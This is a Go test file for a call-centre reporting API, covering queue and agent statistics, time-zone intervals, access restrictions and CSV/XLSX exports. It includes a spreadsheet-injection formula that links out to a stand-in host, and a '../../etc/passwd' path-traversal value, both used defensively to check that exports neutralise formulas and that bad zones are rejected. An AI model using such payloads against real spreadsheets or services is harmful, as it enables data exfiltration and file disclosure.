package v1_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	v1 "callgate/api/v1"
	"callgate/internal/history"
	"callgate/internal/project"
	"callgate/internal/report"
)

// The numbers of the two projects.
const shopNumber, bankNumber = "+74951112233", "+73812000000"

// came is a call that came in at a time, RFC 3339, and saw no queue.
func came(t testing.TB, at, projectID, number string) history.Call {
	t.Helper()
	began, err := time.Parse(time.RFC3339, at)
	if err != nil {
		t.Fatal(err)
	}
	return history.Call{Begun: true, Started: began.UnixMicro(), Direction: "inbound", Project: projectID, Number: number, Disposition: history.Unconnected,
		Cause: "NORMAL_CLEARING", HungUp: history.ByCaller}
}

// queued is a call that waited in a queue, and was answered by an agent if one is named.
func queued(t testing.TB, at, projectID, number, queue string, wait int64, agent string, talk, hold, wrap int64) history.Call {
	t.Helper()
	c := came(t, at, projectID, number)
	v := history.Visit{Queue: queue, Joined: c.Started / 1e6, Wait: wait, Outcome: history.Left}
	c.Wait, c.Disposition, c.Cause = wait, history.Abandoned, "ORIGINATOR_CANCEL"
	if agent != "" {
		v.Outcome, v.Agent, v.Talk, v.Hold, v.Wrap, v.WrapKnown = history.Served, agent, talk, hold, wrap, true
		c.Talk, c.Hold, c.Wrap, c.Disposition, c.Cause, c.HungUp = talk, hold, wrap, history.Answered, "NORMAL_CLEARING", history.ByAgent
	}
	c.Visits = []history.Visit{v}
	return c
}

// day is one of May in a shop and a bank, in Moscow.
func day(t testing.TB) *ledger {
	return &ledger{calls: []history.Call{
		queued(t, "2026-05-04T10:00:00+03:00", "shop", shopNumber, "sales", 5, "anna", 60, 0, 10),
		queued(t, "2026-05-04T10:20:00+03:00", "shop", shopNumber, "sales", 19, "anna", 30, 12, 5),
		queued(t, "2026-05-04T10:59:59+03:00", "shop", shopNumber, "sales", 25, "boris", 100, 0, 0),
		queued(t, "2026-05-04T11:00:00+03:00", "shop", shopNumber, "sales", 3, "", 0, 0, 0),
		queued(t, "2026-05-04T11:10:00+03:00", "shop", shopNumber, "sales", 12, "", 0, 0, 0),
		queued(t, "2026-05-04T11:30:00+03:00", "shop", shopNumber, "sales", 200, "", 0, 0, 0),
		queued(t, "2026-05-04T12:00:00+03:00", "bank", bankNumber, "loans", 15, "anna", 7, 0, 0),
		came(t, "2026-05-04T12:00:00+03:00", "shop", shopNumber),
		came(t, "2026-05-03T23:59:59+03:00", "shop", shopNumber),
		came(t, "2026-05-05T00:00:00+03:00", "", ""),
	}}
}

// reportOf asks for a report.
func reportOf[R any](c *client, token, name string, pairs ...string) (r v1.Report[R]) {
	c.t.Helper()
	got := c.get(token, path("/reports/"+name, pairs...))
	if err := json.Unmarshal([]byte(got.body), &r); err != nil || got.status != http.StatusOK {
		c.t.Fatalf("%s %q: %d %s", name, pairs, got.status, got.body)
	}
	return r
}

// number writes what may be null.
func number[N int64 | float64](n *N) string {
	if n == nil {
		return "-"
	}
	return fmt.Sprint(*n)
}

// TestServiceLevels: every figure of a queue, and the service level of each kind and threshold, those too that the kept
// figures do not know.
func TestServiceLevels(t *testing.T) {
	t.Parallel()
	c := day(t).tell(t)
	for _, tt := range []struct {
		name, want string // in time, abandoned in time, short abandons, service level
		ask        []string
	}{
		{"as the contact-centre report has it", "2 2 1 66.7", []string{"threshold", "20"}},
		{"of another threshold", "1 1 1 33.3", []string{"threshold", "10"}},
		{"of one that figures do not know", "2 2 1 66.7", []string{"threshold", "23"}},
		{"of one more, to the second", "3 2 1 100", []string{"threshold", "26"}},
		{"to the second", "2 2 1 66.7", []string{"threshold", "25"}},
		{"the project's own", "3 2 1 100", []string{"project", "shop"}},
		{"of those offered", "2 2 1 33.3", []string{"threshold", "20", "sl", "offered"}},
		{"without short abandons", "2 2 1 40", []string{"threshold", "20", "sl", "offered_less_short"}},
		{"without longer short abandons", "2 2 2 50", []string{"threshold", "20", "sl", "offered_less_short", "short", "13"}},
		{"without those lost in time", "2 2 1 50", []string{"threshold", "20", "sl", "answered_and_late_lost"}},
		{"with those lost in time", "2 2 1 66.7", []string{"threshold", "20", "sl", "lost_in_time_kept"}},
		{"where half up is up", "1 1 1 16.7", []string{"threshold", "10", "sl", "offered"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := reportOf[v1.QueueRow](c, "all", "queues", append([]string{"from", "2026-05-04", "to", "2026-05-04", "queue", "sales"}, tt.ask...)...)
			if len(r.Rows) != 1 {
				t.Fatalf("%+v", r.Rows)
			}
			for _, q := range [...]v1.QueueRow{r.Rows[0], r.Total} {
				if got := number(q.AnsweredInTime) + " " + number(q.AbandonedInTime) + " " + number(q.ShortAbandons) + " " + number(q.ServiceLevel); got != tt.want {
					t.Errorf("got %s, want %s", got, tt.want)
				}
			}
		})
	}
	r := reportOf[v1.QueueRow](c, "all", "queues", "from", "2026-05-04", "to", "2026-05-04")
	decimal := func(n float64) *float64 { return &n }
	count := func(n int64) *int64 { return &n }
	span := v1.ReportSpan{From: time.UnixMicro(noon(4) - 12*3600e6).In(moscow(t)), To: time.UnixMicro(noon(4) + 12*3600e6).In(moscow(t))}
	loans := v1.ServiceFigures{Offered: 1, Answered: 1, ShortAbandons: count(0), AnsweredInTime: count(1), AbandonedInTime: count(0), ServiceLevel: decimal(100),
		AbandonRate: decimal(0), ASA: decimal(15), AverageWait: decimal(15), LongestWait: 15, Talk: 7, AHT: decimal(7)}
	sales := v1.ServiceFigures{Offered: 6, Answered: 3, Abandoned: 3, ShortAbandons: count(1), AnsweredInTime: count(2), AbandonedInTime: count(2),
		ServiceLevel: decimal(66.7), AbandonRate: decimal(50), ASA: decimal(16.33), AverageWait: decimal(44), LongestWait: 200, Talk: 190, Hold: 12, WrapUp: 15,
		AHT: decimal(68.33)}
	want := []v1.QueueRow{{ReportSpan: span, Queue: "loans", ServiceFigures: loans}, {ReportSpan: span, Queue: "sales", ServiceFigures: sales}}
	if diff := cmp.Diff(want, r.Rows); diff != "" {
		t.Errorf("rows mismatch (-want, +got):\n%s", diff)
	}
	if r.Total.Offered != 7 || number(r.Total.ASA) != "16" || number(r.Total.ServiceLevel) != "75" || r.Total.Queue != "" || r.Threshold != 20 || r.SL != "answered" || r.Short != 5 {
		t.Errorf("the total is %+v", r.Total)
	}
}

// TestDeletedCalls: what cannot be counted any more is null, rather than 0, and what figures know stays.
func TestDeletedCalls(t *testing.T) {
	t.Parallel()
	l := day(t)
	l.deleted = true
	c := l.tell(t)
	ask := []string{"from", "2026-05-04", "to", "2026-05-04", "queue", "sales"}
	r := reportOf[v1.QueueRow](c, "all", "queues", append(ask, "threshold", "23")...)
	if q := r.Rows[0]; q.ServiceLevel != nil || q.AnsweredInTime != nil || q.AbandonedInTime != nil || number(q.ShortAbandons) != "1" || q.Offered != 6 {
		t.Errorf("with a threshold: %+v", q)
	}
	r = reportOf[v1.QueueRow](c, "all", "queues", append(ask, "threshold", "20", "short", "7", "sl", "offered_less_short")...)
	if q := r.Total; q.ServiceLevel != nil || q.ShortAbandons != nil || number(q.AnsweredInTime) != "2" {
		t.Errorf("with short abandons: %+v", q)
	}
	date := report.Date{Year: 2026, Month: 5, Day: 4}
	rows, err := report.NewCentre(l, otherThreshold{}, moscow(t)).Report(t.Context(), date, date, []string{"shop"})
	if err != nil || len(rows) != 3 || rows[0].InTime != 2 {
		t.Errorf("of the contact centre's, of whom those are known who waited less than 20 seconds: %+v, %v", rows, err)
	}
}

// otherThreshold has shops with one that figures do not know.
type otherThreshold struct{ shops }

func (otherThreshold) List() []project.Project {
	all := shops{}.List()
	for i := range all {
		all[i].SLSeconds = 23
	}
	return all
}

// TestReportSpans: the rows of each interval on the days when clocks are put forward and back.
func TestReportSpans(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name, zone, from, to, interval, want string
		calls                                []string
	}{
		{"quarters, spring", "Europe/Berlin", "2026-03-29", "2026-03-29", "quarter", "01:45+01:00 1, 03:00+02:00 1", []string{"2026-03-29T00:59:59Z", "2026-03-29T01:00:00Z"}},
		{"hours, spring", "Europe/Berlin", "2026-03-29", "2026-03-29", "hour", "01:00+01:00 1, 03:00+02:00 1", []string{"2026-03-29T00:59:59Z", "2026-03-29T01:00:00Z"}},
		{"days, spring", "Europe/Berlin", "2026-03-28", "2026-03-30", "day", "00:00+01:00 1, 00:00+01:00 2, 00:00+02:00 1",
			[]string{"2026-03-28T22:59:59Z", "2026-03-28T23:00:00Z", "2026-03-29T21:59:59Z", "2026-03-29T22:00:00Z"}},
		{"weeks, spring", "Europe/Berlin", "2026-03-23", "2026-04-05", "week", "00:00+01:00 1, 00:00+02:00 1", []string{"2026-03-29T21:59:59Z", "2026-03-29T22:00:00Z"}},
		{"months, spring", "Europe/Berlin", "2026-03-01", "2026-04-30", "month", "00:00+01:00 1, 00:00+02:00 1", []string{"2026-03-31T21:59:59Z", "2026-03-31T22:00:00Z"}},
		{"quarters, autumn", "Europe/Berlin", "2026-10-25", "2026-10-25", "quarter", "02:30+02:00 1, 02:30+01:00 1", []string{"2026-10-25T00:30:00Z", "2026-10-25T01:30:00Z"}},
		{"hours, autumn", "Europe/Berlin", "2026-10-25", "2026-10-25", "hour", "02:00+02:00 1, 02:00+01:00 1", []string{"2026-10-25T00:30:00Z", "2026-10-25T01:30:00Z"}},
		{"days, autumn", "Europe/Berlin", "2026-10-24", "2026-10-26", "day", "00:00+02:00 1, 00:00+02:00 2, 00:00+01:00 1",
			[]string{"2026-10-24T21:59:59Z", "2026-10-24T22:00:00Z", "2026-10-25T22:59:59Z", "2026-10-25T23:00:00Z"}},
		{"weeks, autumn", "Europe/Berlin", "2026-10-19", "2026-11-01", "week", "00:00+02:00 1, 00:00+01:00 1", []string{"2026-10-25T22:59:59Z", "2026-10-25T23:00:00Z"}},
		{"months, autumn", "Europe/Berlin", "2026-10-01", "2026-11-30", "month", "00:00+02:00 1, 00:00+01:00 1", []string{"2026-10-31T22:59:59Z", "2026-10-31T23:00:00Z"}},
		{"all of it", "Europe/Berlin", "2026-10-25", "2026-10-25", "whole", "00:00+02:00 2", []string{"2026-10-24T21:59:59Z", "2026-10-24T22:00:00Z", "2026-10-25T22:59:59Z", "2026-10-25T23:00:00Z"}},
		{"half an hour", "Australia/Lord_Howe", "2026-04-05", "2026-04-05", "hour", "01:00+11:00 1, 01:30+10:30 1, 02:00+10:30 1",
			[]string{"2026-04-04T14:59:59Z", "2026-04-04T15:00:00Z", "2026-04-04T15:30:00Z"}},
		{"a day without midnight", "America/Havana", "2026-03-07", "2026-03-08", "day", "00:00-05:00 1, 01:00-04:00 2", []string{"2026-03-08T04:59:59Z", "2026-03-08T05:00:00Z", "2026-03-09T03:59:59Z", "2026-03-09T04:00:00Z"}},
		{"a day without midnight in the east", "Asia/Beirut", "2026-03-29", "2026-03-29", "day", "01:00+03:00 2", []string{"2026-03-28T21:59:59Z", "2026-03-28T22:00:00Z", "2026-03-29T20:59:59Z", "2026-03-29T21:00:00Z"}},
		{"a part of a day", "Europe/Moscow", "2026-05-04T10:15:00", "2026-05-04T12:00:00", "hour", "10:15+03:00 1, 11:00+03:00 1",
			[]string{"2026-05-04T07:00:00Z", "2026-05-04T07:15:00Z", "2026-05-04T08:59:59Z", "2026-05-04T09:00:00Z"}},
		{"a time with an offset", "Europe/Moscow", "2026-05-04T07:15:00Z", "2026-05-04T09:00:00Z", "whole", "10:15+03:00 1", []string{"2026-05-04T07:00:00Z", "2026-05-04T07:15:00Z"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			l := &ledger{}
			for _, at := range tt.calls {
				l.calls = append(l.calls, came(t, at, "shop", shopNumber))
			}
			r := reportOf[v1.NumberRow](l.tell(t), "all", "numbers", "from", tt.from, "to", tt.to, "interval", tt.interval, "zone", tt.zone)
			var got []string
			for _, row := range r.Rows {
				got = append(got, fmt.Sprint(row.From.Format("15:04Z07:00"), " ", row.Inbound))
			}
			if strings.Join(got, ", ") != tt.want || r.Zone != tt.zone || r.Interval != tt.interval {
				t.Errorf("got %q in %s by %s, want %s", got, r.Zone, r.Interval, tt.want)
			}
		})
	}
}

// TestReportsOfOthers: who is limited to projects is told of these, and who may see no numbers of none.
func TestReportsOfOthers(t *testing.T) {
	t.Parallel()
	l := day(t)
	l.times = []report.AgentTime{{Agent: "anna", State: "ready", Time: time.Minute}, {Agent: "boris", State: "ready", Time: time.Minute}, {Agent: "clara", State: "ready", Time: time.Minute}}
	c := l.tell(t)
	ask := []string{"from", "2026-05-03", "to", "2026-05-05", "interval", "whole"}
	for _, tt := range []struct{ token, project, queues, agents, numbers, causes string }{
		{"all", "", "loans 1, sales 6", "anna 3, boris 1, clara 0", " 1, " + bankNumber + " 1, " + shopNumber + " 8", "10"},
		{"all", "bank", "loans 1", "anna 1", bankNumber + " 1", "1"},
		{"reader", "", "sales 6", "anna 2, boris 1", shopNumber + " 8", "8"},
		{"reader", "shop", "sales 6", "anna 2, boris 1", shopNumber + " 8", "8"},
		{"blind", "", "loans 1, sales 6", "anna 3, boris 1, clara 0", " 1, ***** 1, ***** 8", "10"},
	} {
		t.Run(tt.token+tt.project, func(t *testing.T) {
			ask := ask
			if tt.project != "" {
				ask = append(ask, "project", tt.project)
			}
			var queues, agents, numbers []string
			for _, r := range reportOf[v1.QueueRow](c, tt.token, "queues", ask...).Rows {
				queues = append(queues, fmt.Sprint(r.Queue, " ", r.Offered))
			}
			for _, r := range reportOf[v1.AgentRow](c, tt.token, "agents", ask...).Rows {
				agents = append(agents, fmt.Sprint(r.Agent, " ", r.Answered))
			}
			for _, r := range reportOf[v1.NumberRow](c, tt.token, "numbers", ask...).Rows {
				numbers = append(numbers, fmt.Sprint(r.Number, " ", r.Inbound))
			}
			causes := reportOf[v1.CauseRow](c, tt.token, "causes", ask...).Total.Calls
			if got := strings.Join(queues, ", "); got != tt.queues {
				t.Errorf("queues %s, want %s", got, tt.queues)
			}
			if got := strings.Join(agents, ", "); got != tt.agents {
				t.Errorf("agents %s, want %s", got, tt.agents)
			}
			if got := strings.Join(numbers, ", "); got != tt.numbers {
				t.Errorf("numbers %s, want %s", got, tt.numbers)
			}
			if strconv.FormatInt(causes, 10) != tt.causes {
				t.Errorf("%d calls, want %s", causes, tt.causes)
			}
		})
	}
	for _, name := range []string{"queues", "agents", "numbers", "heatmap", "causes", "centre"} {
		whole := ask[:4:4]
		c.refused(c.get("reader", path("/reports/"+name, append(whole, "project", "bank")...)), 404, "")
		c.refused(c.get("reader", path("/reports/"+name, append(whole, "project", "shop", "project", "bank")...)), 404, "")
		c.refused(c.get("nothing", path("/reports/"+name, whole...)), 403, "")
		if got := c.get("blind", path("/reports/"+name, append(whole, "format", "csv")...)).body; strings.Contains(got, "49511") || !strings.Contains(got, ",") {
			t.Errorf("%s shows who may see no numbers %s", name, got)
		}
	}
	c.refused(c.get("blind", path("/reports/queues", append(ask, "number", shopNumber)...)), 403, "")
	if r := reportOf[v1.QueueRow](c, "all", "queues", append(ask, "number", "8 495 111-22-33", "project", "shop")...); len(r.Rows) != 1 || r.Rows[0].Offered != 6 {
		t.Errorf("of a number: %+v", r.Rows)
	}
	if r := reportOf[v1.QueueRow](c, "all", "queues", append(ask, "number", "100")...); len(r.Rows) != 0 || r.Total.Offered != 0 || r.Total.ASA != nil || r.Total.ServiceLevel != nil {
		t.Errorf("of another number: %+v", r)
	}
}

// TestReportsRefused: what is wrong is named.
func TestReportsRefused(t *testing.T) {
	t.Parallel()
	c := day(t).tell(t)
	full := day(t)
	full.busy = report.MaxCallsRead + 1
	at := []string{"from", "2026-05-04", "to", "2026-05-04"}
	for _, tt := range []struct {
		name, report string
		ask          []string
		status       int
		field        string
	}{
		{"no beginning", "queues", []string{"to", "2026-05-04"}, 422, "from"},
		{"no end", "queues", []string{"from", "2026-05-04"}, 422, "to"},
		{"a day that is none", "queues", []string{"from", "2026-02-30", "to", "2026-05-04"}, 422, "from"},
		{"no day at all", "queues", []string{"from", "2026-05-04", "to", "tomorrow"}, 422, "to"},
		{"the end before the beginning", "queues", []string{"from", "2026-05-04", "to", "2026-05-03"}, 422, "to"},
		{"centuries of days", "queues", []string{"from", "1970-01-02", "to", "9998-12-31"}, 422, "interval"},
		{"centuries beyond the calendar", "queues", []string{"from", "1970-01-02", "to", "9999-12-31", "interval", "whole"}, 422, "to"},
		{"centuries of quarters", "agents", []string{"from", "1970-01-02", "to", "9998-12-31", "interval", "quarter"}, 422, "interval"},
		{"centuries of hours", "heatmap", []string{"from", "1970-01-02", "to", "9998-12-31"}, 422, "to"},
		{"centuries of causes", "causes", []string{"from", "1970-01-02", "to", "9998-12-31", "interval", "hour"}, 422, "interval"},
		{"centuries to compare with", "queues", []string{"from", "1980-01-01", "to", "2079-12-31", "interval", "whole", "compare", "previous"}, 422, "compare"},
		{"within a quarter of an hour", "queues", []string{"from", "2026-05-04T10:00:01Z", "to", "2026-05-04"}, 422, "from"},
		{"up to within one", "queues", []string{"from", "2026-05-04", "to", "2026-05-04T10:10:00"}, 422, "to"},
		{"a zone that is none", "queues", append(at, "zone", "Moon/Base"), 422, "zone"},
		{"a zone that is a path", "queues", append(at, "zone", "../../etc/passwd"), 422, "zone"},
		{"the machine's zone", "queues", append(at, "zone", "Local"), 422, "zone"},
		{"an interval that is none", "queues", append(at, "interval", "year"), 422, "interval"},
		{"an interval of the heat map", "heatmap", append(at, "interval", "day"), 422, "interval"},
		{"a project that is none", "queues", append(at, "project", "x"), 404, ""},
		{"a threshold of no time", "queues", append(at, "threshold", "0"), 422, "threshold"},
		{"a threshold of days", "queues", append(at, "threshold", "3601"), 422, "threshold"},
		{"short abandons of days", "queues", append(at, "short", "3601"), 422, "short"},
		{"a service level that is none", "queues", append(at, "sl", "best"), 422, "sl"},
		{"compared with the next", "queues", append(at, "compare", "next"), 422, "compare"},
		{"a form that is none", "queues", append(at, "format", "pdf"), 422, "format"},
		{"the beginning of a number", "queues", append(at, "number", "+7495*"), 422, "number"},
		{"a blank number", "queues", append(at, "number", " "), 422, "number"},
		{"an agent of queues", "queues", append(at, "agent", "anna"), 422, "agent"},
		{"a time of day for days", "centre", []string{"from", "2026-05-04T10:00:00", "to", "2026-05-04"}, 422, "from"},
		{"a zone for the projects' own", "centre", append(at, "zone", "UTC"), 422, "zone"},
		{"centre, the end before the beginning", "centre", []string{"from", "2026-05-04", "to", "2026-05-03"}, 422, "to"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			client := *c
			client.t = t
			client.refused(client.get("all", path("/reports/"+tt.report, tt.ask...)), tt.status, tt.field)
		})
	}
	many := full.tell(t)
	many.refused(many.get("all", path("/reports/queues", append(at, "threshold", "23")...)), 422, "threshold")
	many.refused(many.get("all", path("/reports/queues", append(at, "short", "23")...)), 422, "short")
	if r := reportOf[v1.QueueRow](many, "all", "queues", append(at, "threshold", "30")...); len(r.Rows) != 2 {
		t.Errorf("with a threshold that figures know: %+v", r)
	}
}

// TestComparison: the time before is told of in the same way, and is as long by the calendar.
func TestComparison(t *testing.T) {
	t.Parallel()
	l := &ledger{calls: []history.Call{came(t, "2026-01-31T23:59:59+03:00", "shop", shopNumber), came(t, "2026-02-01T00:00:00+03:00", "shop", shopNumber),
		came(t, "2026-02-28T23:59:59+03:00", "shop", shopNumber), came(t, "2026-03-31T23:59:59+03:00", "shop", shopNumber)}}
	c := l.tell(t)
	ask := []string{"from", "2026-03-01", "to", "2026-03-31", "interval", "month", "compare", "previous"}
	r := reportOf[v1.NumberRow](c, "all", "numbers", ask...)
	if r.Previous == nil || r.Total.Inbound != 1 || r.Previous.Total.Inbound != 2 || len(r.Previous.Rows) != 1 || r.Previous.From.Format(time.DateOnly) != "2026-02-01" ||
		!r.Previous.To.Equal(r.From) {
		t.Errorf("compared: %+v", r)
	}
	if r := reportOf[v1.NumberRow](c, "all", "numbers", ask[:6]...); r.Previous != nil {
		t.Errorf("not compared: %+v", r.Previous)
	}
	rows, err := csv.NewReader(strings.NewReader(c.get("all", path("/reports/numbers", append(ask, "format", "csv")...)).body)).ReadAll()
	if err != nil || len(rows) != 3 || rows[0][0] != "\ufeffperiod" || rows[1][0] != "current" || rows[2][0] != "previous" || rows[2][1] != "2026-02-01 00:00:00" {
		t.Errorf("as a file: %v %q", err, rows)
	}
	centre := reportOf[v1.CentreRow](c, "all", "centre", "from", "2026-03-01", "to", "2026-03-31", "compare", "previous")
	if centre.Total.Calls != 1 || centre.Previous.Total.Calls != 2 || centre.Rows[0].Number != "8 495 111-22-33" || centre.Rows[0].Weekday != 2 || centre.Rows[0].Date != "2026-03-31" {
		t.Errorf("the contact centre's: %+v", centre)
	}
}

// TestAgentReport: calls of agents, and what they did, of which what nobody watched is no part.
func TestAgentReport(t *testing.T) {
	t.Parallel()
	l := day(t)
	l.calls = append(l.calls, history.Call{Begun: true, Started: noon(4), Direction: "outbound", Project: "shop", Number: shopNumber, Account: "anna", Disposition: history.Answered, Talk: 33})
	l.calls[0].Visits[0].Attempts = []history.Attempt{{Agent: "boris"}, {Agent: "anna", Answered: true}}
	for state, d := range map[string]time.Duration{"ready": 600, "ringing": 20, "talking": 90, "outside": 30, "wrap_up": 60, "not_ready": 0, "unknown": 3600, "logged_out": 9999} {
		l.times = append(l.times, report.AgentTime{Agent: "anna", State: state, Time: d * time.Second})
	}
	l.times = append(l.times, report.AgentTime{Agent: "anna", State: "pause", Time: 100*time.Second + 600*time.Millisecond},
		report.AgentTime{Agent: "anna", State: "pause", Reason: "lunch", Time: 1800 * time.Second},
		report.AgentTime{Agent: "clara", State: "logged_out", Time: time.Hour}, report.AgentTime{Agent: "dora", Switch: "spare", State: "unknown", Time: time.Hour})
	c := l.tell(t)
	ask := []string{"from", "2026-05-04", "to", "2026-05-04"}
	r := reportOf[v1.AgentRow](c, "all", "agents", ask...)
	decimal := func(n float64) *float64 { return &n }
	span := v1.ReportSpan{From: time.UnixMicro(noon(4) - 12*3600e6).In(moscow(t)), To: time.UnixMicro(noon(4) + 12*3600e6).In(moscow(t))}
	want := []v1.AgentRow{
		{ReportSpan: span, Agent: "anna", LoggedIn: 2701, Ready: 600, Ringing: 20, Busy: 180, Paused: 1901, Pauses: v1.Pauses{{"lunch", 1800}, {"", 101}}, Unknown: 3600,
			Occupancy: decimal(22.5), Offered: 3, Answered: 3, Outbound: 1, Talked: 1, Talk: 130, Hold: 12, WrapUp: 15, AHT: decimal(36.25)},
		{ReportSpan: span, Agent: "boris", Pauses: v1.Pauses{}, Offered: 2, Answered: 1, Missed: 1, Talk: 100, AHT: decimal(100)},
		{ReportSpan: span, Agent: "dora", Pauses: v1.Pauses{}, Unknown: 3600},
	}
	if diff := cmp.Diff(want, r.Rows); diff != "" {
		t.Errorf("rows mismatch (-want, +got):\n%s", diff)
	}
	if r.Total.LoggedIn != 2701 || r.Total.Unknown != 7200 || number(r.Total.Occupancy) != "22.5" || r.Total.Offered != 5 {
		t.Errorf("the total is %+v", r.Total)
	}
	if got := c.get("all", path("/reports/agents", append(ask, "format", "csv")...)).body; !strings.Contains(got, `,1901,"lunch 1800, 101",3600,22.5,`) {
		t.Errorf("as a file: %s", got)
	}
	l.times = append(l.times, report.AgentTime{Agent: "+7 916 123-45-67", State: "pause", Reason: "called 89161234567", Time: time.Hour})
	for token, want := range map[string]string{"all": "+7 916 123-45-67 called 89161234567 3600", "blind": "***** called ***** 3600"} {
		r := reportOf[v1.AgentRow](c, token, "agents", ask...)
		if got := r.Rows[0].Agent + " " + r.Rows[0].Pauses.String(); got != want {
			t.Errorf("%s is told %s, want %s", token, got, want)
		}
	}
	if r := reportOf[v1.AgentRow](c, "all", "agents", append(ask, "agent", "boris")...); len(r.Rows) != 1 || r.Rows[0].Agent != "boris" {
		t.Errorf("of one: %+v", r.Rows)
	}
	if r := reportOf[v1.AgentRow](c, "all", "agents", append(ask, "queue", "nobody's")...); len(r.Rows) != 0 {
		t.Errorf("of a queue without calls: %+v", r.Rows)
	}
}

// TestHeatMap: hours are those that clocks show, each weekday's together, and one shown twice came once.
func TestHeatMap(t *testing.T) {
	t.Parallel()
	l := &ledger{}
	for _, at := range []string{"2026-10-18T00:30:00Z", "2026-10-25T00:30:00Z", "2026-10-25T01:30:00Z", "2026-10-26T22:59:59Z"} {
		l.calls = append(l.calls, queued(t, at, "shop", shopNumber, "sales", 10, "anna", 1, 0, 0), came(t, at, "shop", shopNumber))
	}
	c := l.tell(t)
	ask := []string{"from", "2026-10-18", "to", "2026-10-26", "zone", "Europe/Berlin"}
	at := func(r v1.Report[v1.HeatRow], weekday, hour int) v1.HeatRow { return r.Rows[(weekday-1)*24+hour] }
	r := reportOf[v1.HeatRow](c, "all", "heatmap", ask...)
	if len(r.Rows) != 7*24 {
		t.Fatalf("%d hours", len(r.Rows))
	}
	for i, row := range r.Rows {
		if row.Weekday != i/24+1 || row.Hour != i%24 {
			t.Fatalf("row %d is %+v", i, row)
		}
	}
	if s := at(r, 7, 2); s.Times != 2 || s.Inbound != 6 || s.Answered != 3 || number(s.ASA) != "10" {
		t.Errorf("Sundays at two: %+v", s)
	}
	if m := at(r, 1, 23); m.Times != 2 || m.Inbound != 2 || at(r, 3, 9).Times != 1 || at(r, 3, 9).ASA != nil {
		t.Errorf("Mondays at eleven: %+v", m)
	}
	if r.Total.Inbound != 8 || r.Total.Answered != 4 {
		t.Errorf("the total is %+v", r.Total)
	}
	r = reportOf[v1.HeatRow](c, "all", "heatmap", append(ask, "queue", "sales")...)
	if s := at(r, 7, 2); s.Inbound != 0 || s.Offered != 3 {
		t.Errorf("of a queue: %+v", s)
	}
	if r := reportOf[v1.HeatRow](c, "all", "heatmap", "from", "2026-03-29", "to", "2026-03-29", "zone", "Europe/Berlin"); len(r.Rows) != 23 {
		t.Errorf("a day in spring has %d hours", len(r.Rows))
	}
}

// TestCauses: how calls ended, the most first, and their share of the row's time.
func TestCauses(t *testing.T) {
	t.Parallel()
	c := day(t).tell(t)
	r := reportOf[v1.CauseRow](c, "all", "causes", "from", "2026-05-03", "to", "2026-05-04")
	var got []string
	for _, row := range r.Rows {
		got = append(got, fmt.Sprintf("%d %s %s %s %s %d %s", row.From.Day(), row.Cause, row.Disposition, row.HungUpBy, row.Direction, row.Calls, number(row.Share)))
	}
	want := []string{"3 NORMAL_CLEARING unconnected caller inbound 1 100", "4 NORMAL_CLEARING answered agent inbound 4 50",
		"4 ORIGINATOR_CANCEL abandoned caller inbound 3 37.5", "4 NORMAL_CLEARING unconnected caller inbound 1 12.5"}
	if diff := cmp.Diff(want, got); diff != "" || r.Total.Calls != 9 || number(r.Total.Share) != "100" {
		t.Errorf("rows mismatch (-want, +got), %+v:\n%s", r.Total, diff)
	}
}

// TestReportFiles: files have the rows that JSON has, under the same names, and no spreadsheet runs what is in them.
func TestReportFiles(t *testing.T) {
	t.Parallel()
	const evil = `=HYPERLINK("http://x/?"&A1)`
	l := &ledger{calls: []history.Call{queued(t, "2026-05-04T10:00:00+03:00", "shop", shopNumber, evil, 5, "@anna", 61, 0, 10),
		queued(t, "2026-05-04T11:00:00+03:00", "shop", shopNumber, evil, 7, "", 0, 0, 0)}}
	c := l.tell(t)
	for _, name := range []string{"queues", "agents", "numbers", "heatmap", "causes", "centre"} {
		t.Run(name, func(t *testing.T) {
			client := *c
			client.t = t
			ask := []string{"from", "2026-05-04", "to", "2026-05-04"}
			var doc struct{ Rows []map[string]any }
			if err := json.Unmarshal([]byte(client.get("all", path("/reports/"+name, ask...)).body), &doc); err != nil || len(doc.Rows) == 0 {
				t.Fatalf("%v %v", err, doc)
			}
			got := client.get("all", path("/reports/"+name, append(ask, "format", "csv")...))
			rows, err := csv.NewReader(strings.NewReader(got.body)).ReadAll()
			if err != nil || len(rows) != len(doc.Rows)+1 || !strings.HasPrefix(got.header.Get("Content-Disposition"), `attachment; filename="`+name+"-") {
				t.Fatalf("%v %v %v", err, rows, got.header)
			}
			rows[0][0] = strings.TrimPrefix(rows[0][0], "\ufeff")
			if len(rows[0]) != len(doc.Rows[0]) {
				t.Errorf("columns %q of %v", rows[0], doc.Rows[0])
			}
			for i, row := range doc.Rows {
				for n, column := range rows[0] {
					want, known := row[column]
					if !known {
						t.Fatalf("no field %s", column)
					}
					if cell := rows[i+1][n]; cell != shownAs(t, column, want) {
						t.Errorf("%s of row %d is %q, want %v", column, i, cell, want)
					}
				}
			}
			sheet := client.get("all", path("/reports/"+name, append(ask, "format", "xlsx")...))
			book, err := excelize.OpenReader(strings.NewReader(sheet.body))
			if err != nil {
				t.Fatal(err)
			}
			defer book.Close()
			cells, err := book.GetRows(book.GetSheetName(0))
			if err != nil || len(cells) != len(rows) || strings.Join(cells[0], " ") != strings.Join(rows[0], " ") {
				t.Errorf("%v %q", err, cells)
			}
			for i := range cells {
				for n := range cells[i] {
					place, _ := excelize.CoordinatesToCellName(n+1, i+1)
					if formula, err := book.GetCellFormula(book.GetSheetName(0), place); formula != "" || err != nil {
						t.Errorf("%s is run: %s %v", place, formula, err)
					}
				}
			}
		})
	}
}

// shownAs is how a field of JSON has to look in a text.
func shownAs(t *testing.T, column string, value any) string {
	t.Helper()
	switch v := value.(type) {
	case nil:
		return ""
	case []any:
		if len(v) > 0 {
			t.Fatalf("%v", v)
		}
		return ""
	case float64:
		return strconv.FormatFloat(v, 'f', -1, 64)
	case string:
		if column == "from" || column == "to" {
			at, err := time.Parse(time.RFC3339, v)
			if err != nil {
				t.Fatal(err)
			}
			return at.Format(time.DateTime)
		}
		if v != "" && strings.ContainsAny(v[:1], "=@") {
			return "'" + v
		}
		return v
	}
	t.Fatalf("%s is %v", column, value)
	return ""
}
